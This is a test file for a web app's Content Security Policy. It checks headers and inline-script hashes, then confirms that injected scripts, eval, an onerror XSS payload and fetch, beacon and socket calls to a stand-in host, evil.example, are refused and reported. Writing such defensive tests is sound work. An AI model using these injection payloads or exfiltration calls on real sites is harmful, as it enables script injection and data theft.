// The security policy of our pages and our worker: foreign code is refused, and each attempt is reported.
/* oxlint-disable no-eval, typescript/no-implied-eval -- the test checks that they are refused */
import { createHash } from "node:crypto";
import { readdirSync } from "node:fs";
import { join } from "node:path";
import { BROTLI_SUFFIX } from "../../build/precompress.ts";
import { listPage } from "../../pages/listPage.ts";
import { evaluateInCore } from "../../support/core/coreWorker.ts";
import { freezeWorld } from "../../support/stagedDay.ts";
import { collectComplaints, expect, test } from "../../support/test.ts";

const ASSETS = join(import.meta.dirname, "..", "..", "..", "dist", "assets");

/** Requests under way at the same time. */
const AT_ONCE = 16;

/** Of documents and the scripts of workers, and of what these load. */
const POLICY = /^default-src 'none'; script-src 'self' 'sha256-[\w+/]{43}='; worker-src/;
const LOADED_POLICY = "default-src 'none'; frame-ancestors 'none'; sandbox";

test("every file of the build is sent with its own type and a policy, that of the worker with the whole one", async ({
  request,
  baseURL,
}) => {
  const files = readdirSync(ASSETS).filter((name) => !name.endsWith(BROTLI_SUFFIX));
  const whole = (path: string): boolean =>
    !/^\/(?:assets|images)\//.test(path) || /\.(?:html|map)$/.test(path);
  const workers = files.filter((name) => /\.worker-.*\.js$/.test(name));
  expect(workers.map((name) => name.split(".")[0])).toEqual(["live"]);
  const paths = [
    "/",
    "/ar/live",
    "/nowhere/at/all",
    "/build.json",
    "/sitemap.xml",
    "/images/icon.svg",
    "/offline.js",
  ];
  const check = async (path: string): Promise<void> => {
    const answer = await request.head(baseURL + path);
    const headers = answer.headers();
    const isWorker = workers.some((name) => path.endsWith(name));
    expect(headers["content-security-policy"], path).toMatch(
      whole(path) || isWorker ? POLICY : LOADED_POLICY,
    );
    expect(headers["x-content-type-options"], path).toBe("nosniff");
    if (path.endsWith(".js")) expect(headers["content-type"]).toBe("text/javascript; charset=utf-8");
    if (path.endsWith(".map")) expect(headers["content-type"]).toBe("application/json; charset=utf-8");
    if (path.endsWith(".css")) expect(headers["content-type"]).toBe("text/css; charset=utf-8");
  };
  const all = [...paths, ...files.map((name) => `/assets/${name}`)];
  // One after the other they take a minute on a slow machine.
  for (let at = 0; at < all.length; at += AT_ONCE) await Promise.all(all.slice(at, at + AT_ONCE).map(check));
});

test("a document contains one inline script, which the policy names, and no style or handler", async ({
  request,
  baseURL,
}) => {
  for (const path of ["/", "/ar/live", "/football/match/1/odds", "/nowhere", "/privacy", "/login"]) {
    const answer = await request.get(baseURL + path);
    const text = await answer.text();
    const scripts = [...text.matchAll(/<script\b([^>]*)>([^]*?)<\/script>/g)]
      // Structured data for search engines is data, which no browser runs; the entry is a file.
      .filter(([, attributes = ""]) => !/application\/ld\+json|\ssrc=/.test(attributes))
      .map(([, , body = ""]) => `'sha256-${createHash("sha256").update(body).digest("base64")}'`);
    const policy = answer.headers()["content-security-policy"] ?? "";
    expect(/script-src 'self' ([^;]*);/.exec(policy)?.[1], path).toBe(scripts.join(" "));
    expect(scripts, path).toHaveLength(1);
    expect(text, path).not.toMatch(/<style\b|<[a-z][^>]*\s(?:on[a-z]+|style)\s*=|javascript:/i);
  }
});

/** Each tries to load code, styles or data against the policy; `directive` must refuse it. */
const ATTEMPTS: readonly (readonly [name: string, directive: string, attempt: () => unknown])[] = [
  [
    "an inline script",
    "require-trusted-types-for",
    () => {
      const script = document.createElement("script");
      script.append("globalThis.broken = 1");
      document.body.append(script);
    },
  ],
  [
    "a script from elsewhere",
    "require-trusted-types-for",
    () => {
      const script = document.createElement("script");
      script.src = "https://evil.example/x.js";
      document.body.append(script);
    },
  ],
  ["eval", "require-trusted-types-for", () => (0, eval)("globalThis.broken = 1")],
  ["a function out of text", "require-trusted-types-for", () => new Function("globalThis.broken = 1")()],
  ["a timer out of text", "require-trusted-types-for", () => setTimeout("globalThis.broken = 1" as never)],
  ["WebAssembly", "script-src", () => WebAssembly.compile(new Uint8Array([0, 97, 115, 109, 1, 0, 0, 0]))],
  [
    "markup out of text",
    "require-trusted-types-for",
    () => {
      document.body.innerHTML = "<img src=x onerror=globalThis.broken=1>";
    },
  ],
  [
    "a handler out of text",
    "require-trusted-types-for",
    () => {
      const image = document.createElement("b");
      image.setAttribute("onclick", "globalThis.broken = 1");
      image.click();
    },
  ],
  [
    "another policy for texts",
    "trusted-types",
    () => {
      const host = globalThis as unknown as {
        trustedTypes: { createPolicy(name: string, rules: object): unknown };
      };
      host.trustedTypes.createPolicy("touchline-2", {});
    },
  ],
  [
    "an inline style",
    "style-src-elem",
    () => {
      const style = document.createElement("style");
      style.append("body{display:none}");
      document.head.append(style);
    },
  ],
  [
    "a frame",
    "frame-src",
    () => {
      const frame = document.createElement("iframe");
      frame.src = "https://evil.example/";
      document.body.append(frame);
    },
  ],
  [
    "an object",
    "require-trusted-types-for",
    () => {
      const object = document.createElement("object");
      object.data = "https://evil.example/x.swf";
      document.body.append(object);
    },
  ],
  [
    "a picture from elsewhere",
    "img-src",
    () => {
      new Image().src = "https://evil.example/x.png";
    },
  ],
  [
    "a sound from elsewhere",
    "media-src",
    () => {
      new Audio("https://evil.example/x.mp3").load();
    },
  ],
  ["a call elsewhere", "connect-src", () => fetch("https://evil.example/").catch(() => undefined)],
  ["a socket elsewhere", "connect-src", () => new WebSocket("wss://evil.example/")],
  ["a beacon elsewhere", "connect-src", () => navigator.sendBeacon("https://evil.example/", "x")],
  [
    "another base for addresses",
    "base-uri",
    () => {
      const base = document.createElement("base");
      base.href = "https://evil.example/";
      document.head.append(base);
    },
  ],
  [
    "a form that the browser sends",
    "form-action",
    () => {
      const form = document.createElement("form");
      form.action = "https://evil.example/";
      document.body.append(form);
      form.submit();
    },
  ],
];

test("attempts to load foreign code, styles or data onto a page are refused and reported", async ({
  page,
  policyBreaches,
}) => {
  await page.goto("/about");
  await expect(page.getByRole("heading", { level: 1 })).toBeVisible();
  for (const [name, directive, attempt] of ATTEMPTS) {
    await test.step(name, async () => {
      // From a timer: parts of what the test's own call runs are exempt.
      await page.evaluate(
        `setTimeout(() => { const attempt = ${attempt.toString()}; try { attempt(); } catch {} })`,
      );
      const reported: string[] = [];
      await expect
        .poll(async () => {
          reported.push(...(await policyBreaches.take()).map((breach) => breach.directive));
          return reported;
        })
        .toContain(directive);
      expect(await page.evaluate("[globalThis.broken, location.pathname].join()")).toBe(",/about");
    });
  }
});

test("the worker is under the same policy, and its violations are reported", async ({
  page,
  browser,
  product,
  policyBreaches,
}) => {
  await page.goto("/live");
  await listPage(page).settled();
  const attempts: Readonly<Record<string, string>> = {
    "connect-src": `fetch("https://evil.example/").then(() => "sent", () => "refused")`,
    "require-trusted-types-for": `new Promise((done) => setTimeout(() => { try { done(String((0, eval)("1"))); } catch { done("refused"); } }))`,
    "script-src-elem": `import("https://evil.example/x.js").then(() => "sent", () => "refused")`,
  };
  for (const [directive, attempt] of Object.entries(attempts)) {
    expect(await evaluateInCore(browser, product.origin, attempt)).toBe("refused");
    const reported: string[] = [];
    await expect
      .poll(async () => {
        const breaches = await policyBreaches.take();
        reported.push(...breaches.map((breach) => `${breach.directive} ${breach.document}`));
        return reported.join("\n");
      })
      .toMatch(new RegExp(`${directive === "script-src-elem" ? "script-src" : directive}.*live\\.worker`));
  }
});

test("a breach fails the test in which it happens", async ({ page, policyBreaches }) => {
  const complaints = collectComplaints(page);
  await page.goto("/about");
  await page.evaluate(() => setTimeout(() => new Image().setAttribute("src", "https://evil.example/x.png")));
  // The fixture takes reports at a test's end: without this call this test would fail.
  await expect.poll(async () => (await policyBreaches.take()).length).toBe(1);
  // The server may have the report before the page has the message.
  await expect.poll(() => complaints.join()).toContain("Content Security Policy");
});

test("the pages request only our own addresses", async ({ page, product, baseURL, complaints }) => {
  const hosts = new Set<string>();
  page.on("request", (request) => {
    if (/^(?:https?|wss?):/.test(request.url())) hosts.add(new URL(request.url()).origin);
  });
  const [matchId = 0] = await freezeWorld(product, 1);
  for (const path of ["/", `/football/match/${matchId}/odds`, "/about", "/settings/theme"]) {
    await page.goto(path);
    await expect(page.getByRole("main")).not.toBeEmpty();
  }
  expect([...hosts]).toEqual([baseURL]);
  expect(complaints).toEqual([]);
});
